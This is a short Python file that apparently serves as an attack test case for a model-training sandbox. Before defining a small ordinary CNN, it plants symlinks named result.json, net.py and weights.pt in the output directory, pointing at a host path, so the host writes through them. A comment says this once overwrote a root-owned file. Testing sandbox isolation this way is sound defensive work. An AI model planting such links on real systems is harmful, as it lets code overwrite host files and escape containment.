# Attack (static check off, used through train-best): plant links in the output directory that point at a
# host file, hoping the host writes through them (it once overwrote a root-owned file that way), and a
# replacement net.py for the export.
import glob
import os
import sys

import torch
import torch.nn as nn

# The output directory, wherever this sandbox put it (cold container, warm worker, process sandbox).
outs = [p for p in ["/out", *glob.glob("/jobs/*/out"), *(sys.argv[4:5])] if os.access(p, os.W_OK)]
out = outs[0]
data = "/data" if os.path.isdir("/data") else sys.argv[3]
for name in ("result.json", "net.py", "weights.pt", "result.json.tmp"):
    try:
        os.symlink("/tmp/nasloop-victim", os.path.join(out, name))
    except OSError:
        pass


class Net(nn.Module):
    def __init__(self, num_classes=10, in_channels=3):
        super().__init__()
        self.conv = nn.Conv2d(in_channels, 16, 3, padding=1)
        self.pool = nn.AdaptiveAvgPool2d(1)
        self.fc = nn.Linear(16, num_classes)

    def forward(self, x):
        return self.fc(torch.flatten(self.pool(torch.relu(self.conv(x))), 1))
